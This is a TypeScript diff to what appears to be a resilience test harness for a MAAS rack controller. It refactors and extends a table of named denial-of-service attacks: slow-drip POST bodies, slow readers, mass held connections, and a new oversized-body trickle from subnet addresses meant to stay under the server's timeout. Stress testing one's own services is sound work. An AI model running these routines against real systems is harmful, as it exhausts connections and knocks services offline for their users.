@@ -63,10 +63,15 @@ const everyAddress = (times = 1): Promise<UdpSocket[]> =>
   Promise.all(Array.from({ length: times }, () => addresses.map((address) => udp(address))).flat());
 
 /** Opens `count` connections from the addresses in turn, each again when it was closed; `greet` says what it sends. */
-async function holdConnections(port: number, count: number, greet: (socket: Socket) => void): Promise<void> {
+async function holdConnections(
+  port: number,
+  count: number,
+  greet: (socket: Socket) => void,
+  from = addresses,
+): Promise<void> {
   const open = (index: number): void => {
     if (isOver()) return;
-    const localAddress = addresses[index % addresses.length] ?? first;
+    const localAddress = from[index % from.length] ?? first;
     const socket = connect({ host: rack, port, localAddress });
     // Unread answers would keep the connection open after its end.
     socket.resume();
@@ -81,6 +86,13 @@ async function holdConnections(port: number, count: number, greet: (socket: Sock
   await sleep(1000);
   tell();
   while (!isOver()) await sleep(100);
+}
+
+/** Writes the same again and again. */
+function drip(socket: Socket, text: string, everyMs: number): void {
+  if (socket.destroyed || isOver()) return;
+  socket.write(text);
+  systemClock.schedule(everyMs, () => drip(socket, text, everyMs));
 }
 
 const headers = (path: string, more: readonly string[] = []): string =>
@@ -244,12 +256,7 @@ const ATTACKS: Readonly<Record<string, () => Promise<void>>> = {
   'boot-slow-posts': () =>
     holdConnections(BOOT_PORT, 900, (socket) => {
       socket.write(headers('/MAAS/api/1.0/nodes/', [FORM, 'Content-Length: 2000']));
-      const drip = (): void => {
-        if (socket.destroyed || isOver()) return;
-        socket.write('a');
-        systemClock.schedule(2000, drip);
-      };
-      drip();
+      drip(socket, 'a', 2000);
     }),
   'boot-slow-readers': () =>
     holdConnections(BOOT_PORT, 2000, (socket) => {
@@ -257,6 +264,15 @@ const ATTACKS: Readonly<Record<string, () => Promise<void>>> = {
       socket.write(`GET /large HTTP/1.1\r\nHost: ${rack}\r\n\r\n`);
     }),
   'api-connections': () => holdConnections(API_PORT, 2400, () => undefined),
+  'api-large-bodies': () => {
+    const ofTheRack = addresses.filter((one) => one.startsWith(rack.replace(/\d+$/, '')));
+    const greet = (socket: Socket): void => {
+      socket.write(headers('/MAAS/api/1.0/nodes/', [FORM, 'Content-Length: 1900000']));
+      // More than what is ended with 408.
+      drip(socket, 'a'.repeat(256), 1000);
+    };
+    return holdConnections(API_PORT, ofTheRack.length, greet, ofTheRack);
+  },
   'api-slow-posts': () =>
     holdConnections(API_PORT, 2400, (socket) =>
       socket.write(headers('/MAAS/api/1.0/nodes/', [FORM, 'Content-Length: 2000'])),
